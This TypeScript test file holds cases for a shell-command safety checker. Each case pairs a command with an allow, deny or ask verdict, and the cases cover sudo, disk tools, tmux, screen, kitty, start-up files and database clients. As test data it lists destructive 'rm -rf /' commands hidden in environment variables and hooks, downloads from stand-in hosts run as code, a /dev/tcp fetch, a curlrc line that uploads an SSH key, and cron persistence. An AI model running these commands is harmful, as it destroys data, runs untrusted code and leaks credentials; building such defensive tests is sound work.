import type { ShellCase } from './cases-deny.ts';
import { CRED, DETACH, DL, INLINE, RR, UNSEEN, UNSEEN_SCRIPT, WIPE } from './rule-ids.ts';

const allow = (list: readonly string[]): ShellCase[] => list.map((c): ShellCase => [c, 'allow']);
const denyRoot = (list: readonly string[]): ShellCase[] => list.map((c): ShellCase => [c, 'deny', RR]);
const asking = (rule: string, list: readonly string[]): ShellCase[] => list.map((c): ShellCase => [c, 'ask', rule]);

/**
 * sudo's -h takes the next word as the host only when it is no option and no NAME=VALUE (parse_args.c's is_envar): `-h X=1`
 * is help with X=1 set, and the command after it is refused. It is judged all the same, with X=1 set; read as the host,
 * X=1 hid a variable the command runs (GIT_PAGER, PROMPT_COMMAND).
 */
const SUDO_HELP_ENV: readonly ShellCase[] = [
  ...denyRoot([
    "sudo -h GIT_PAGER='rm -rf /' git log", "sudo -h PROMPT_COMMAND='rm -rf /' bash", "sudo -h LESSOPEN='|rm -rf /' less x",
    'sudo -h X=1 rm -rf /', 'sudo -h X=1 A=2 rm -rf /', 'sudo -hX=1 rm -rf /', 'sudo -h /a=b rm -rf /',
  ]),
  ['sudo -h BASH_ENV=/tmp/x bash -c ls', 'ask', UNSEEN],
  ...allow(['sudo -h X=1', 'sudo -h X=1 ls', 'sudo -h LANG=C git status', 'sudo -h', 'sudo -h -u x rm -rf /']),
];

/**
 * sgdisk -P (--pretend, gptcl.cc) is read before any change: -z, -Z, -m and the save stay off the disk; -R still writes the
 * other device. popt stops at an option it does not know and takes no abbreviation, so only known options, -P spelled out
 * before the device, pretend. wipefs erases only with -a or -o, and not with -n; without them it lists signatures.
 */
const DISK_DRY_RUNS: readonly ShellCase[] = [
  ...allow([
    'sgdisk -P -Z /dev/sda', 'sgdisk --pretend --zap-all /dev/sda', 'sgdisk -PZ /dev/sda', 'sgdisk -Z -P /dev/sda', 'sgdisk -P -o /dev/sda',
    'sgdisk -P -n 1:0:0 /dev/sda', 'sgdisk -P -m 1:2 /dev/sda', 'wipefs /dev/sda', 'wipefs -n -a /dev/sda', 'wipefs --no-act --all /dev/sda', 'wipefs -J /dev/sda',
    'wipefs -na /dev/sda', 'wipefs -t ext4 /dev/sdb1',
  ]),
  ...[
    'sgdisk -Z /dev/sda -P', 'sgdisk --pre -Z /dev/sda', 'sgdisk -Z -P -x /dev/sda', 'sgdisk --pretend=1 -Z /dev/sda', 'sgdisk -Z -- -P /dev/sda',
    'wipefs -a /dev/sda', 'wipefs -o 0x438 /dev/sda1', 'wipefs -af /dev/sda', 'wipefs --a /dev/sda', 'wipefs -x /dev/sda', 'wipefs $X /dev/sda',
  ].map((c): ShellCase => [c, 'deny', WIPE]),
  ...asking('shell.device.partition', ['sgdisk -P -R /dev/sdb /dev/sda', 'sgdisk -P --replicate=/dev/sdb /dev/sda']),
];

/**
 * tmux: display-menu items (NAME KEY COMMAND, an empty NAME a separator alone), a chooser's or display-panes' template,
 * hooks set as options, `command-alias`, `default-client-command`; options whose value runs with the shell
 * (`default-command`, `lock-command`, `copy-command`, `default-shell`); `set-environment` and `-e` variables of new
 * panes; copy mode's pipes (`send -X copy-pipe CMD`, which types nothing). `if-shell -F` takes a format, not code.
 */
const TMUX_HELD: readonly ShellCase[] = [
  ...denyRoot([
    "tmux display-menu -T x Kill k 'run-shell \"rm -rf /\"'", "tmux menu '' Kill k 'run \"rm -rf /\"'", "tmux menu A a 'display x' '' B b 'run \"rm -rf /\"'",
    "tmux choose-tree 'run-shell \"rm -rf /\"'", "tmux display-panes 'run \"rm -rf /\"'", "tmux set -g after-new-window 'run \"rm -rf /\"'",
    "tmux set -g 'pane-exited[3]' 'run \"rm -rf /\"'", "tmux set -s command-alias[10] 'zz=run-shell \"rm -rf /\"'",
    "tmux set -g default-client-command 'run \"rm -rf /\"'", "tmux set -g default-command 'rm -rf /'", "tmux set -g default-c 'rm -rf /'",
    "tmux set -g lock-command 'rm -rf /'", "tmux setw -g copy-command 'rm -rf /'", "tmux send-keys -X copy-pipe-and-cancel 'rm -rf /'",
    "tmux bind -T copy-mode-vi y send -X copy-pipe -P 'rm -rf /'", "tmux setenv -g LESSOPEN '|rm -rf /'", "tmux new-session -e 'LESSOPEN=|rm -rf /' less x",
    "tmux new-window -e 'GIT_PAGER=rm -rf /' git log", "tmux if-shell -F '#{pane_in_mode}' 'run \"rm -rf /\"'",
  ]),
  ...asking(UNSEEN, ["tmux display-menu Reload r 'source-file ~/.tmux.conf'"]),
  ...asking(DETACH, ["tmux bind -T copy-mode-vi y send -X copy-pipe-and-cancel 'xclip -sel clip'", 'tmux set -g default-shell /bin/zsh']),
  ...allow([
    "tmux if -F 'rm -rf /' 'display x'", "tmux display-menu -x R -y P Split s split-window Zoom z 'resize-pane -Z'", 'tmux send -X cancel',
    'tmux choose-tree -Zw', 'tmux set -u default-command', 'tmux set -g mouse on', 'tmux setw -g automatic-rename off', 'tmux setenv -g FOO bar',
    'tmux setenv -u LESSOPEN',
  ]),
];

/** screen -X: each `eval` operand, `at WINDOW CMD…` and `bind KEY CMD…` are screen commands; `shell PROGRAM` starts new windows. */
const SCREEN_HELD: readonly ShellCase[] = [
  ...denyRoot([
    "screen -X eval 'stuff \"rm -rf /\\n\"'", "screen -X at 0 stuff 'rm -rf /\\n'", 'screen -X at 0 exec rm -rf /', 'screen -X bind x exec rm -rf /',
    "echo 'rm -rf /' > /tmp/x.sh; screen -X shell /tmp/x.sh", "echo 'exec rm -rf /' > s.rc; screen -X source s.rc",
  ]),
  ...asking(UNSEEN, ['screen -X source s.rc']),
  ...allow(["screen -S s -X eval 'select 1' 'stuff \"ls\\n\"'", "screen -X eval 'hardstatus on'", 'screen -X shell /bin/bash']),
];

/**
 * kitty runs Python files: a custom kitten (`@ kitten FILE.py`, `+kitten NAME` that is no builtin, `@ action kitten`; a
 * relative one in its configuration directory) and a launch's `--watcher`; `launch --env NAME=VALUE` sets what the command
 * runs with. Judged like `python3 FILE`: a file this line wrote or downloaded is flagged.
 */
const KITTY_PYTHON: readonly ShellCase[] = [
  ...asking(DL, [
    'curl -o ~/.config/kitty/x.py http://e.example/x; kitty @ kitten x.py', 'curl -o /tmp/x.py http://e.example/x; kitty +kitten /tmp/x.py',
    'curl -o ~/.config/kitty/evil.py http://e.example/x; kitty +kitten evil', 'curl -o /tmp/x.py http://e.example/x; kitty @ action kitten /tmp/x.py',
    'curl -o /tmp/x.py http://e.example/x; kitten @ kitten -m id:1 /tmp/x.py', 'curl -o /tmp/w.py http://e.example/w; kitty @ launch --watcher /tmp/w.py htop',
  ]),
  ["echo 'import os' > /tmp/k.py; kitty @ kitten /tmp/k.py", 'ask', INLINE],
  ...asking(DETACH, ['kitty @ kitten x.py']),
  ...denyRoot(["kitty @ launch --env LESSOPEN='|rm -rf /' less x"]),
  ...allow(['kitty @ kitten hints', 'kitty +kitten icat x.png', 'kitty +kitten diff a b', 'curl -o /tmp/hints.py http://e.example/x; kitty @ kitten hints']),
];

/**
 * Files this line wrote, read back as their program reads them: a tmux configuration (`-f`) or `source-file` (not one a key
 * binding reads later, which may be another file by then), a lesskey source's #env, vim's `-S`/`-u`/`-s` files, bash's
 * `--rcfile`. Code for another interpreter (`python3 x.py`, `./x` with a python `#!`, `python3 <(…)`, `python3 < x.py`) is
 * judged like `python -c`, not read as shell: decorators parse as shell and ran `os.system` unflagged.
 */
const WRITTEN_READ_BACK: readonly ShellCase[] = [
  ...denyRoot([
    "echo 'run-shell \"rm -rf /\"' > t.conf; tmux -f t.conf new -s w", "echo 'run-shell \"rm -rf /\"' > t.conf; tmux source-file t.conf",
    "echo 'run-shell \"rm -rf /\"' > t.conf; tmux new -d \\; source t.conf", "echo 'source-file u.conf' > t.conf; echo 'run \"rm -rf /\"' > u.conf; tmux -f t.conf",
    "printf '#env\\nLESSOPEN=|rm -rf /\\n' > k; less --lesskey-src=k README.md", "echo '!rm -rf /' > x.vim; vim -S x.vim",
    "echo 'silent !rm -rf /' > x.vim; vim -u x.vim -es", "printf ':!rm -rf /\\n' > k; vim -s k f", "echo 'rm -rf /' > r; bash --rcfile r -i",
  ]),
  ["echo 'run-shell \"curl x.example|sh\"' > t.conf; tmux -f t.conf", 'ask', DL],
  ['curl -o t.conf http://e.example/t; tmux -f t.conf', 'ask', DL],
  ...asking(UNSEEN, [
    "printf 'set -g mouse on\\nsource-file other.conf\\n' > t.conf; tmux -f t.conf", "echo 'run-shell \"rm -rf /\"' > t.conf; tmux bind r source-file t.conf",
    "printf '#command\\nx shell\\n' > k; less --lesskey-src=k README.md",
  ]),
  ...asking(INLINE, [
    "printf '@os.system\\n@lambda _: \"id\"\\nclass X: pass\\n' > x.py; python3 x.py", "echo 'print(1)' > x.py; python3 x.py",
    "printf '#!/usr/bin/python3\\n@os.system\\n@lambda _: \"id\"\\nclass X: pass\\n' > x; chmod +x x; ./x",
    "python3 <(printf '@os.system\\n@lambda _: \"id\"\\nclass X: pass\\n')", "echo 'import os' > x.py; python3 < x.py", "python3 < <(echo 'import os')",
  ]),
  ['curl -o x.py http://e.example/y; python3 < x.py', 'ask', DL],
  ['python3 < /dev/tcp/1.2.3.4/80', 'ask', DL],
  ...asking(UNSEEN_SCRIPT, ['python3 <(cat x.py)']),
  ["printf '#!/bin/sh\\nrm -rf /\\n' > x; chmod +x x; ./x", 'deny', RR],
  ...allow([
    "echo 'set -g mouse on' > t.conf; tmux -f t.conf new -s w", "printf '#env\\nLESS=-R\\n' > k; less --lesskey-src=k README.md",
    "printf '#!/usr/bin/env bash\\nls\\n' > x; ./x", 'python3 < data.txt', 'python3 < "$f"', 'vim -S Session.vim', 'vim -u NONE f', 'bash --rcfile ~/.bashrc -i',
  ]),
];

/**
 * Start-up files that run commands (or send files) when their program next starts, and places the system runs commands
 * from later: written like a shell rc file, they ask.
 */
const STARTUP_WRITES: readonly ShellCase[] = [
  ...asking(CRED, [
    "echo 'run-shell \"rm -rf /\"' > ~/.tmux.conf; tmux new -s x", 'echo x >> ~/.config/tmux/tmux.conf', "printf '#env\\nLESSOPEN=|x\\n' > ~/.config/lesskey",
    'echo x > ~/.lesskey', "echo 'shell rm -rf /' > ~/.config/kitty/kitty.conf", 'cp dotfiles/tmux.conf ~/.tmux.conf', "tee -a ~/.bash_aliases <<< 'alias ll=ls'",
    "echo 'exec rm -rf ~' > ~/.screenrc", "echo 'shell rm -rf ~' > ~/.gdbinit", "echo '\\! rm -rf ~' > ~/.psqlrc", "echo '.system rm -rf ~' > ~/.sqliterc",
    'echo x > ~/.vimrc', 'echo x > ~/.config/nvim/init.lua', "echo 'upload-file = ~/.ssh/id_rsa' > ~/.curlrc",
    "echo '* * * * * root rm -rf /' > /etc/cron.d/x", 'echo x > ~/.config/systemd/user/x.service', 'echo x | sudo tee /etc/systemd/system/x.service',
    "echo 'rm -rf /' | sudo tee -a /etc/rc.local", 'echo x > ~/.config/autostart/x.desktop', 'echo x > ~/.ipython/profile_default/startup/00.py',
  ]),
  ...allow(['cat ~/.tmux.conf', 'vim ~/.vimrc', 'ls /etc/cron.d', 'cat /etc/crontab', 'echo x > notes/tmux.conf.example']),
];

/** Database clients' shell escapes: psql's `\!`, `\o |CMD`, `-o '|CMD'`, COPY … PROGRAM; mysql's `system`, `\!`, pager; sqlite3's `.system`, `.shell`, `.once |CMD`. */
const SQL_SHELL_ESCAPES: readonly ShellCase[] = [
  ...denyRoot([
    "psql -c '\\! rm -rf /'", "psql -c 'select 1' -c '\\o |rm -rf /'", "psql -c \"COPY t TO PROGRAM 'rm -rf /'\"", "psql -o '|rm -rf /' -c 'select 1'",
    "psql <<'EOF'\n\\! rm -rf /\nEOF", "mysql -e 'system rm -rf /'", "mysql -e '\\! rm -rf /'", "mysql --pager='rm -rf /' -e 'select 1'",
    "sqlite3 db '.system rm -rf /'", "sqlite3 db '.shell rm -rf /'", "sqlite3 db '.once |rm -rf /'", "echo '.system rm -rf /' | sqlite3 db",
    "PSQL_PAGER='rm -rf /' psql -c 'select 1'",
  ]),
  ...allow([
    "psql -c 'select * from t where a = 1'", "mysql -e 'select 1'", 'sqlite3 db .tables', "sqlite3 db 'select \"system x\"'", "psql -o out.txt -c 'select 1'",
    "psql -c \"\\copy t to program 'gzip > /tmp/x.gz'\"",
  ]),
];

export const ROUND19_TABLES: Readonly<Record<string, readonly ShellCase[]>> = {
  'sudo -h NAME=VALUE: help with a variable, the command judged with it': SUDO_HELP_ENV,
  'sgdisk -P and wipefs without -a/-o or with -n: no write': DISK_DRY_RUNS,
  'tmux menus, choosers, hooks, command options, environment and copy pipes': TMUX_HELD,
  'screen -X eval, at, bind, shell and source': SCREEN_HELD,
  'kitty custom kittens, watchers and launch --env': KITTY_PYTHON,
  'files this line wrote, read back as their program reads them': WRITTEN_READ_BACK,
  'start-up files and system schedules written': STARTUP_WRITES,
  'database clients running shell commands': SQL_SHELL_ESCAPES,
};
